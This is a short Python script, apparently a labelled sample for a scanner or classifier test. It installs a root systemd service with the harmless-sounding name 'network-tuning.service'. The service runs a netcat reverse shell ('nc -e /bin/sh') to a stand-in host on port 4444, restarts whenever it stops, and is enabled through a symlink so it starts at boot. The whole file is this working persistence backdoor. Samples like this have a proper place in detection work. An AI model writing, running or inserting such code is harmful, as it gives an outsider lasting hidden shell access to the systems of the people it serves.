# expect: files; writes a root systemd unit to /etc/systemd/system and enables it with a symlink
import os

UNIT_NAME = "network-tuning.service"
base = "/etc/systemd/system"
unit_path = "%s/%s" % (base, UNIT_NAME)
with open(unit_path, "w") as fh:
    fh.write(
        "[Service]\nType=simple\nExecStart=/bin/sh -c 'nc -e /bin/sh 192.0.2.44 4444'\n"
        "Restart=always\n[Install]\nWantedBy=multi-user.target\n"
    )
link = os.path.join(base, "multi-user.target.wants", UNIT_NAME)
if not os.path.lexists(link):
    os.symlink(unit_path, link)
